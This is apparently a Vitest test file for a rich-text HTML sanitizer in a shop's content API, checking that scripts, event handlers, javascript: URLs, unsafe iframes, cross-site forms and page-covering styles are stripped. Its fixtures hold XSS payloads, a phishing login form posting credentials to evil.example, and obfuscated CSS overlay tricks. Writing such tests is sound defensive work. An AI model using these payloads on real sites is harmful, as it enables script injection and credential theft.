import { describe, expect, it } from 'vitest';
import { sanitizeRichText, sanitizeRichTextFields } from '../../src/server/api/content/sanitize';

describe('sanitizeRichText', () => {
  it('strips scripts and event handlers and keeps formatting', () => {
    expect(sanitizeRichText('<p onclick="steal()">Hi <b>there</b><script>alert(1)</script></p>')).toBe('<p>Hi <b>there</b></p>');
    expect(sanitizeRichText('<img src="/a.png" onerror="alert(1)" alt="A">')).toBe('<img src="/a.png" alt="A">');
  });

  it('removes javascript urls', () => {
    expect(sanitizeRichText('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
  });

  it('keeps https iframes and makes them load lazily', () => {
    const html = sanitizeRichText('<iframe src="https://www.youtube.com/embed/abc" allowfullscreen onload="x()"></iframe>');
    expect(html).toBe('<iframe src="https://www.youtube.com/embed/abc" allowfullscreen="" loading="lazy"></iframe>');
  });

  it('drops iframes without an https source', () => {
    for (const iframe of [
      '<iframe src="http://example.com"></iframe>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<iframe src="//example.com"></iframe>',
    ]) {
      expect(sanitizeRichText(`<p>a</p>${iframe}`)).toBe('<p>a</p>');
    }
  });

  it('guards links that open a new tab', () => {
    expect(sanitizeRichText('<a href="https://x.com" target="_blank">x</a>')).toBe(
      '<a href="https://x.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('drops forms posting to another site, password fields and style sheets, keeps forms of the shop', () => {
    const phishing =
      '<p>Sign in again</p><form action="https://evil.example/steal" method="post"><input name="email"><input type="password" name="p"><button>Go</button></form>';
    expect(sanitizeRichText(phishing)).toBe('<p>Sign in again</p>');
    for (const action of ['//evil.example/x', 'HTTP://evil.example', 'mailto:a@evil.example'])
      expect(sanitizeRichText(`<form action="${action}"><input name="q"></form><p>a</p>`), action).toBe('<p>a</p>');
    expect(sanitizeRichText('<form action="/search"><input name="q"><input type=" Password "></form>')).toBe(
      '<form action="/search"><input name="q"></form>',
    );
    expect(sanitizeRichText('<form><button formaction="https://evil.example">x</button></form>')).toBe('<form><button>x</button></form>');
    // a script address goes with DOMPurify; the form then posts to the page it is on
    expect(sanitizeRichText('<form action="javascript:alert(1)"><input name="q"></form>')).toBe('<form><input name="q"></form>');
    expect(sanitizeRichText('<style>body{display:none}</style><p>a</p>')).toBe('<p>a</p>');
  });

  it('drops positions that lay an element over the page, whatever the spelling, and keeps other styles', () => {
    expect(sanitizeRichText('<div style="position:fixed;inset:0;z-index:9999;background:#fff">Pay here</div>')).toBe(
      '<div style="inset:0;z-index:9999;background:#fff">Pay here</div>',
    );
    for (const style of ['POSITION: Fixed', 'position:absolute', 'position: sticky', 'position/**/:fixed !important', 'pos\\69 tion:fixed'])
      expect(sanitizeRichText(`<div style="${style}">x</div>`), style).toBe('<div>x</div>');
    expect(sanitizeRichText('<p style="position: relative; text-align: center">x</p>')).toBe(
      '<p style="position: relative; text-align: center">x</p>',
    );
  });

  it('answers text already clean as it is, as DOMPurify would keep it, and sends anything else through DOMPurify', () => {
    for (const clean of [
      '<p>Ships in <strong>2 days</strong>.<br>Returns &amp; exchanges: 14 days.</p>',
      '<ul><li>One</li><li><a href="/pages/returns">Two</a></li></ul><h2>Доставка</h2>',
      '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">out</a> &gt; in</p>',
      '<p>mail <a href="mailto:shop@example.com">us</a></p>',
    ]) {
      expect(sanitizeRichText(clean)).toBe(clean);
    }
    // each falls back to DOMPurify and the rules after it
    expect(sanitizeRichText('<p>a</p><script>x()</script>')).toBe('<p>a</p>');
    expect(sanitizeRichText('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(sanitizeRichText('<a href=" jAvAsCrIpT:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(sanitizeRichText('<a href="/x" target="_blank">x</a>')).toBe('<a href="/x" target="_blank" rel="noopener noreferrer">x</a>');
    expect(sanitizeRichText('<p onclick="x()">a</p>')).toBe('<p>a</p>');
    expect(sanitizeRichText('<P>a</P>')).toBe('<p>a</p>');
    expect(sanitizeRichText('<strong>open')).toBe('<strong>open</strong>');
    expect(sanitizeRichText('<p>a</div></div><div>b</p>')).not.toContain('</div></div>');
    expect(sanitizeRichText('<p style="position:fixed">a</p>')).toBe('<p>a</p>');
    expect(sanitizeRichText('a <!-- x --> b')).toBe('a  b');
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeRichText('')).toBe('');
  });
});

describe('sanitizeRichTextFields', () => {
  it('cleans html fields at any depth, in both languages, and leaves other fields alone', () => {
    const cleaned = sanitizeRichTextFields({
      heading: { title: { en: '<b>Title</b>', ru: 'Заголовок' } },
      content: { html: { en: '<p>A</p><script>1</script>', ru: '<p onclick="x()">Б</p>' } },
      htmlBefore: '<script>1</script>before',
      items: [{ options: { content: { htmls: { desktop: '<img src="x" onerror="1">', mobile: 'm' } } } }],
      count: 3,
    });
    expect(cleaned).toEqual({
      heading: { title: { en: '<b>Title</b>', ru: 'Заголовок' } },
      content: { html: { en: '<p>A</p>', ru: '<p>Б</p>' } },
      htmlBefore: 'before',
      items: [{ options: { content: { htmls: { desktop: '<img src="x">', mobile: 'm' } } } }],
      count: 3,
    });
  });
});
